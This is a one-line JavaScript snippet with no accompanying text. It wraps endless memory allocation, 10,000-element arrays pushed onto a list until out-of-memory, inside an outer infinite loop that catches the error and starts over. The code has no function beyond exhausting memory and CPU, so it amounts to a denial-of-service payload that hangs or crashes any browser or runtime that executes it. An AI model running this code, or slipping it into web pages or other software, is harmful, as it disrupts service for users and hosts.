for(;;){try{let a=[];for(;;)a.push(new Array(1e4).fill(1))}catch(e){}}
